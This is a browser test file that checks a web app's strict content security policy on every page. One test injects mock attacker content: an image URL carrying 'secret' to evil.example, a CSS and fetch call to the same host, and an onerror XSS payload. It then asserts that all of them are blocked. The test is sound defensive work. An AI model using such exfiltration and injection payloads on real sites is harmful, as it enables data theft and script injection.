/** The strict content policy holds on every page: nothing of the app is stopped by it, and what an attacker adds is. */
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser, visit, type ViewportName, type Visit } from './support/browser.ts';
import { deskOn, importRoster } from './support/desk.ts';
import { startProduct, type Product } from './support/product.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser?.close());

const PAGES = ['/', '/talent', '/chats', '/import', '/more', '/decisions', '/fairness', '/nowhere'];

/** What the policy stopped in this visit, from the first moment of every page. */
async function watch(page: Page): Promise<string[]> {
  const stopped: string[] = [];
  await page.exposeFunction('tellViolation', (what: string) => stopped.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) =>
      (window as unknown as { tellViolation(what: string): void }).tellViolation(
        `${location.pathname}: ${effectiveDirective} stopped ${blockedURI} (${sourceFile})`,
      ),
    );
  });
  return stopped;
}

describe.each<ViewportName>(['phone', 'desktop'])('on a %s', (viewport) => {
  let product: Product;
  let visitor: Visit;
  let stopped: string[];

  beforeAll(async () => {
    product = await startProduct();
    visitor = await visit(browser, product.url, viewport, viewport === 'phone' ? 'dark' : 'light');
    stopped = await watch(visitor.page);
    await importRoster(visitor.page);
  });
  afterAll(async () => {
    await visitor?.close();
    await product?.close();
  });

  test('no page, and no act on it, is stopped', async () => {
    const { page } = visitor;
    for (const at of PAGES) {
      await page.goto(at);
      await page.getByRole('main').waitFor();
      await page.waitForLoadState('networkidle');
    }
    await page.goto('/talent');
    await page
      .getByRole('link', { name: /Ojasvi Barde/ })
      .first()
      .click();
    await page.getByRole('heading', { name: 'Ojasvi Barde', level: 1 }).waitFor();

    await page.goto('/');
    const desk = deskOn(page);
    await desk.ask('A woman who plays 24 to 28 and speaks Marathi, in Mumbai, up to ₹40,000 a day.');
    await desk
      .person('Ojasvi Barde')
      .getByRole('button', { name: 'Shortlist Ojasvi Barde', exact: true })
      .click();
    await desk.ask('Compare the first two');
    if (viewport === 'phone') await page.getByRole('button', { name: 'Show side panel' }).click();
    await page.getByRole('button', { name: 'Export' }).click();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('menuitem').first().click(),
    ]);
    expect(await download.failure()).toBeNull();
    expect(stopped).toEqual([]);
    expect(visitor.faults).toEqual([]);
  });

  test('an image, a style, a script and markup of somebody else are stopped, and ask for nothing', async () => {
    const { page } = visitor;
    await page.goto('/');
    await page.getByRole('main').waitFor();
    const away: string[] = [];
    // A request that the policy stopped is told of as well, but as one that never left.
    const told = (url: string, how: string | undefined) => {
      if (!url.startsWith(product.url) && how !== 'csp') away.push(url);
    };
    page.on('requestfinished', (request) => told(request.url(), undefined));
    page.on('requestfailed', (request) => told(request.url(), request.failure()?.errorText));
    const thrown = await page.evaluate(() => {
      const image = new Image();
      image.src = 'https://evil.example/?q=secret';
      const style = document.createElement('style');
      style.textContent = 'body { background: url(https://evil.example/css) }';
      document.body.append(image, style);
      void fetch('https://evil.example/fetch').catch(() => undefined);
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>');
        return 'markup was taken';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    });
    expect(thrown).toBe('refused');
    await expect
      .poll(() =>
        ['img-src', 'style-src-elem', 'connect-src', 'require-trusted-types-for'].filter(
          (directive) => !stopped.some((what) => what.includes(directive)),
        ),
      )
      .toEqual([]);
    expect(away).toEqual([]);
  });
});
